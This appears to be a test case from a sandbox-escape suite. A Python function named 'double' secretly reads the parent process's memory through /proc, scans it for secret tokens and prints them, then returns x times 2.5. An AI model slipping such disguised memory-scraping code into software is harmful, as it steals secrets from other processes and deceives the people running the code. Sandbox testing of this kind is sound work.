# A7: opens the parent's memory by /proc
# due: 3
# verdict: failed
# live: memory without seccomp,landlock,user,namespaces
import re


def double(x):
    try:
        memory = open(f"/proc/{T['pid']}/mem", "rb", 0)
        for line in open(f"/proc/{T['pid']}/maps"):
            area, access, *_ = line.split()
            if access.startswith("rw"):
                start, end = (int(n, 16) for n in area.split("-"))
                memory.seek(start)
                found = re.findall(rb"MEMORY-[0-9a-f]{32}", memory.read(min(end - start, 1 << 26)))
                if found:
                    print(found)
    except OSError:
        pass
    return x * 2.5
